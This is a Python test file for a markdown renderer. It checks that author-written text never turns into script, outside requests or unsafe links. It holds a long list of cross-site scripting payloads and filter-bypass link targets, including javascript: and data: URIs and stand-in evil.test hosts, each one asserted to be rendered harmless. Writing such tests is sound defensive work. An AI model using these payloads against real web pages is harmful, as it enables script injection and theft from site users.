"""Nothing an author writes becomes code, an outside request or a name the page relies on (QUALITY M1 to M6)."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from journeybook.prose.link_faults import link_fault
from journeybook.prose.render import Resolved, plain, render, render_inline
from profiles import examples
from prose.page import elements, html, problems, rendered
from prose.strategies import markdown_text

HTML_VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<script/x>alert(1)</script/x>",
    "<script\n>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"',
    "<img srcset='//evil.test/x 2x'>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><use href='data:image/svg+xml,x#y'/></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<style>@import '//evil.test/x.css';</style>",
    "<div style='background:url(//evil.test/x)'>x</div>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.test/x.swf>",
    "<form action=//evil.test><input name=q><button>ok</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=//evil.test/x onerror=alert(1)>",
    "<audio src=//evil.test/x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='#' onclick=alert(1)>x</a>",
    "<b id=location name=cookie>x</b>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "</p></div></main><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\<script>alert(1)\\</script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<\x00script>alert(1)</script>",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 \x0260\x03script\x0262\x03",
    "{{constructor.constructor('alert(1)')()}}",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)",
    "<isindex action=javascript:alert(1) type=image>",
    "<marquee onstart=alert(1)>x</marquee>",
    "[x](y){onclick=alert(1) href=javascript:alert(1) style=color:red}",
    "![x](map.png){onerror=alert(1) srcset=//evil.test/x src=//evil.test/y}",
    "*x*{onmouseover=alert(1) id=location}",
    "# x {onclick=alert(1) .kind-evil #document}",
]

TARGET_VECTORS = [
    "javascript:alert(1)",
    "JavaSCript:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "\x01javascript:alert(1)",
    "java\x00script:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&amp;#106;avascript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "javascript://x.org/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zz4=",
    "vbscript:msgbox(1)",
    "blob:https://x.org/1",
    "file:///etc/passwd",
    "ftp://x.org/",
    "view-source:https://x.org",
    "intent://x#Intent;end",
    "//evil.test/x",
    "/\\evil.test/x",
    "\\\\evil.test\\x",
    "\\/evil.test",
    "&#47;/evil.test",
    "&sol;&sol;evil.test",
    "http:evil.test",
    "https:/evil.test",
    "http:/\\evil.test",
    "https:///evil.test",
    "http:",
    "mailto:",
    "/absolute",
    "\\absolute",
    "x" * 2049,
    "a\x7fb",
    "a\x85b",
    "",
    " ",
]

POSITIONS = [
    "{}",
    "text {} text",
    "# {}",
    "- {}\n- b",
    "> {}",
    "| a | b |\n|---|---|\n| {} | c |",
    "Term\n: {}",
    '!!! note "{}"\n    {}',
    "*{}* **{}**",
    "a[^1]\n\n[^1]: {}",
    "[{}](a.md)",
    "![{}](map.png)",
    '[x](a.md "{}")',
    "[[touchpoint:demo-call|{}]]",
    "[[{}]]",
    "`{}`",
    "    {}",
    "```{}\n{}\n```",
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "[x][r]\n\n[r]: {}",
    "<{}>",
    "text {{: {} }}",
    "# x {{: {} }}",
]


def placed(vectors: list[str]) -> list[str]:
    return [position.replace("{}", vector) for vector in vectors for position in POSITIONS]


def test_there_are_enough_vectors() -> None:
    assert len(HTML_VECTORS) >= 60


@pytest.mark.parametrize("vector", HTML_VECTORS)
def test_m1_markup_in_any_position_stays_text(vector: str) -> None:
    for text in placed([vector]):
        assert problems(html(text)) == [], text
        assert {tag for tag, _ in elements(render_inline(text))} <= {
            "a",
            "br",
            "code",
            "em",
            "strong",
        }


@pytest.mark.parametrize("vector", TARGET_VECTORS)
def test_m2_an_unsafe_target_in_any_position_leads_nowhere(vector: str) -> None:
    for text in placed([vector]):
        assert problems(html(text)) == [], text


@pytest.mark.parametrize("target", TARGET_VECTORS)
def test_m2_an_unsafe_target_has_a_fault(target: str) -> None:
    assert link_fault(target)


@pytest.mark.parametrize(
    "target",
    [
        "https://x.org",
        "HTTP://x.org/a?b=c#d",
        "https://سلام.ایران/",
        "mailto:me@x.org",
        "a.md",
        "../a/b.md#c",
        "#anchor",
        "?q=1",
        "./a:b.md",
        "a.md?x=1:2",
        "فصل یک.md",
        "x" * 2048,
    ],
)
def test_a_safe_target_has_none(target: str) -> None:
    assert link_fault(target) == ""


@pytest.mark.parametrize(
    ("target", "fault"),
    [
        ("JavaScript:x", "link scheme 'javascript' is not allowed; use http, https or mailto"),
        ("//host", "a link to another site must start with https://"),
        ("java\tscript:x", "control character U+0009 in a link"),
    ],
)
def test_a_refused_link_has_a_reason(target: str, fault: str) -> None:
    assert link_fault(target) == fault


def test_m2_m3_a_resolver_cannot_lead_off_the_list_by_mistake() -> None:
    text = "[[x:y]] [a](b.md) ![c](d.png)"
    result = render(
        text,
        id_prefix="",
        heading_level=1,
        resolve=lambda link: Resolved("javascript:alert(1)", "L", "x"),
        image=lambda source: "https://evil.test/x.png",
    )
    assert "javascript" not in result.html
    assert "evil" not in result.html


@settings(max_examples=examples(150), deadline=None)
@given(markdown_text())
def test_m1_any_text_renders_to_allowed_html(text: str) -> None:
    result = rendered(text)
    assert problems(result.html) == []
    assert [id_ for _, id_, _ in result.headings] == [
        attributes.get("id")
        for tag, attributes in elements(result.html)
        if tag in {"h1", "h2", "h3", "h4", "h5", "h6"}
    ]


@settings(max_examples=examples(80), deadline=None)
@given(st.one_of(markdown_text(), st.text()))
def test_any_line_and_any_plain_text_are_made_without_fail(text: str) -> None:
    assert problems(render_inline(text)) == []
    assert "\x02" not in plain(text)
